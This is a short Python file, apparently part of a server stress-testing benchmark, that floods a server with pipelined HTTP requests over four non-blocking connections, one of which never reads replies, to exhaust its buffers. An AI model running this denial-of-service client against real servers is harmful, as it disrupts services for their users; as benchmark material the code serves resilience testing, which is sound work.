"""Request after request on few connections, without waiting for answers, which are read; on one they aren't."""

from __future__ import annotations

import selectors

from bench.attacks.client import GoesOn, connect, main

CONNECTIONS = 4
MANY = b"GET /s/x HTTP/1.1\r\nHost: x\r\n\r\n" * 2000


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    while goes_on():
        try:
            _one_round(port, source, goes_on)
        except OSError:
            pass  # the server has had enough of it


def _one_round(port: int, source: str, goes_on: GoesOn) -> None:
    with selectors.DefaultSelector() as selector:
        for number in range(CONNECTIONS):
            connection = connect(port, source)
            connection.setblocking(False)
            events = selectors.EVENT_WRITE | (selectors.EVENT_READ if number else 0)
            selector.register(connection, events, [MANY])
        while goes_on():
            for key, events in selector.select(0.1):
                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 20):  # type: ignore[union-attr]
                    raise ConnectionError
                if events & selectors.EVENT_WRITE:
                    sent = key.fileobj.send(key.data[0])  # type: ignore[union-attr]
                    key.data[0] = key.data[0][sent:] or MANY


if __name__ == "__main__":
    main(attack)
